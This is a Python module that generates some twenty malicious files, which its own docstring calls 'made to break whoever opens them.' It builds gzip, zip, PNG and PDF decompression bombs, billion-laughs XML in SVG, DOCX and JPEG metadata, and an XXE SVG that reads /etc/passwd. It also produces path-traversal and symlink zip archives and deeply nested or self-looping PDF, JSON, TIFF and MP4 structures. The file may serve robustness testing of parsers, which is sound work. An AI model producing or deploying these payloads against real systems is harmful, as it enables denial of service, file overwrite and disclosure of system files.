"""Files made to break whoever opens them, each a few bytes to a few megabytes."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

_ENTITIES = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "laugh">' for n in range(10)
)


def zeros_gzip(size: int = 1 << 30) -> bytes:
    """About 1,000 to 1: the most that DEFLATE gives in one layer."""
    return gzip.compress(bytes(size >> 6), 9) * (1 << 6)


def gzip_thrice() -> bytes:
    """More than 1,000,000 to 1: two gigabytes in less than two thousand bytes."""
    return gzip.compress(gzip.compress(gzip.compress(bytes(1 << 26), 9) * 32, 9), 9)


def nested_zip(depth: int = 12, width: int = 8) -> bytes:
    """Each archive holds the one below ``width`` times: 8^12 megabytes at the bottom."""
    inner = _zip({"0": bytes(1 << 20)})
    for _ in range(depth):
        inner = _zip({f"{n}.zip": inner for n in range(width)}, zipfile.ZIP_DEFLATED)
    return inner


def overlapping_zip(names: int = 20_000) -> bytes:
    """All directory entries point at one body (after Fifield, "A better zip bomb", 2019)."""
    body = zlib.compress(bytes(1 << 20), 9)[2:-4]
    crc, size = zlib.crc32(bytes(1 << 20)), 1 << 20
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(body), size, 1, 0)
    out = local + b"a" + body
    directory = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            33,
            crc,
            len(body),
            size,
            6,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"%06d" % n
        for n in range(names)
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, names, names, len(directory), len(out), 0)
    return out + directory + end


def escaping_zip(kind: str = "") -> bytes:
    """Names that lead out of any folder; ``kind``: a mimetype entry, as OpenDocument has."""
    names = [
        "../../../../tmp/escaped",
        "/tmp/escaped",
        "..\\..\\escaped",
        "C:\\escaped",
        "a/../../b",
    ]
    entries = {"mimetype": kind.encode()} if kind else {}
    entries |= dict.fromkeys(names, b"escaped")
    if kind:
        entries["meta.xml"] = b"<office:document-meta/>"
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    stream = io.BytesIO(_zip(entries))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def laughing_svg() -> bytes:
    """Ten entities of ten entities each: 10^9 laughs."""
    return f'<?xml version="1.0"?><!DOCTYPE svg [{_ENTITIES}]><svg><text>&l9;</text></svg>'.encode()


def fetching_svg() -> bytes:
    """External entities and references: a file, and an address."""
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">'
        b'<!ENTITY n SYSTEM "http://127.0.0.1:9/x">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&f;&n;</text></svg>'
    )


def laughing_docx() -> bytes:
    """The same in the properties of an office file."""
    core = f'<?xml version="1.0"?><!DOCTYPE c [{_ENTITIES}]><c><t>&l9;</t></c>'
    return _zip({"[Content_Types].xml": b"<Types/>", "docProps/core.xml": core.encode()})


def laughing_xmp() -> bytes:
    """The same in the XMP packet of a picture."""
    packet = f'<!DOCTYPE x [{_ENTITIES}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&l9;</x:xmpmeta>'
    return _jpeg(_xmp_segment(packet.encode()))


def huge_xmp(size: int = 16 << 20) -> bytes:
    """A packet of 16 MB in a PNG."""
    items = b"<rdf:li>x</rdf:li>" * (size // 18)
    packet = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf'
        b'-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:subject>'
        b"<rdf:Bag>" + items + b"</rdf:Bag></dc:subject></rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    return _png((b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet))


def png_text_bomb(size: int = 1 << 30) -> bytes:
    """zTXt chunks that inflate to a gigabyte each."""
    squeezed = _deflated_zeros(size)
    return _png(*[(b"zTXt", b"Comment\0\0" + squeezed)] * 3)


def pdf_flate_bomb() -> bytes:
    """A metadata stream of two FlateDecode layers, a gigabyte in about a kilobyte."""
    twice = zlib.compress(_deflated_zeros(1 << 30), 9)
    return (
        b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Metadata 2 0 R>>endobj\n2 0 obj<</Type/Metadata"
        b"/Subtype/XML/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n"
        % len(twice)
        + twice
        + b"\nendstream endobj\ntrailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"
    )


def deep_pdf(depth: int = 200_000) -> bytes:
    """Arrays in arrays."""
    return (
        b"%PDF-1.4\n1 0 obj"
        + b"[" * depth
        + b"]" * depth
        + (b"endobj\ntrailer<</Root 1 0 R/Info 1 0 R>>\nstartxref\n9\n%%EOF")
    )


def looping_pdf() -> bytes:
    """A cross-reference table that names itself as the one before it."""
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9/Root 1 0 R>>\n"
    return b"%PDF-1.4\n" + table + b"startxref\n9\n%%EOF"


def deep_json(depth: int = 1_000_000) -> bytes:
    """Lists in lists."""
    return b"[" * depth + b"]" * depth


def deep_svg(depth: int = 200_000) -> bytes:
    """Groups in groups."""
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * depth + b"</g>" * depth + b"</svg>"
    )


def looping_tiff() -> bytes:
    """Directories that follow and contain themselves."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x014A, 4, 1, 8)
    return b"II*\0" + struct.pack("<IH", 8, 2) + entry + struct.pack("<I", 8)


def claiming_tiff() -> bytes:
    """One tag that says it has four thousand million values."""
    entry = struct.pack("<HHII", 0x010E, 2, 0xFFFF_FFFF, 26)
    return b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 0) + b"end"


def deep_boxes(depth: int = 4_000) -> bytes:
    """ISO media boxes in boxes."""
    out = b""
    for _ in range(depth):
        out = struct.pack(">I4s", len(out) + 8, b"moov") + out
    return struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 0, b"isom") + out


def claiming_riff() -> bytes:
    """A WebP whose one chunk says that it is nearly 4 GB long."""
    return b"RIFF\xf0\xff\xff\xffWEBPEXIF\xe0\xff\xff\xff" + bytes(64)


BOMBS: dict[str, Callable[[], bytes]] = {
    "zeros.gz": zeros_gzip,
    "thrice.gz": gzip_thrice,
    "nested.zip": nested_zip,
    "overlapping.zip": overlapping_zip,
    "escaping.zip": escaping_zip,
    "escaping.odt": lambda: escaping_zip("application/vnd.oasis.opendocument.text"),
    "laughing.svg": laughing_svg,
    "fetching.svg": fetching_svg,
    "laughing.docx": laughing_docx,
    "laughing.jpg": laughing_xmp,
    "huge-xmp.png": huge_xmp,
    "text.png": png_text_bomb,
    "flate.pdf": pdf_flate_bomb,
    "deep.pdf": deep_pdf,
    "looping.pdf": looping_pdf,
    "deep.json": deep_json,
    "deep.svg": deep_svg,
    "looping.tif": looping_tiff,
    "claiming.tif": claiming_tiff,
    "deep.mp4": deep_boxes,
    "claiming.webp": claiming_riff,
}


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return stream.getvalue()


def _deflated_zeros(size: int) -> bytes:
    """A zlib stream of zeros, a multiple of 1 MiB, put together from one piece."""
    block = bytes(1 << 20)
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = squeezer.compress(block) + squeezer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(size >> 20):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + piece * (size >> 20) + b"\3\0" + struct.pack(">I", check)


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    head = (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    body = (b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
        for name, content in (head, *chunks, body, (b"IEND", b""))
    )


def _xmp_segment(packet: bytes) -> bytes:
    content = b"http://ns.adobe.com/xap/1.0/\0" + packet
    return b"\xff\xe1" + struct.pack(">H", len(content) + 2) + content


def _jpeg(segment: bytes) -> bytes:
    return b"\xff\xd8" + segment + b"\xff\xd9"
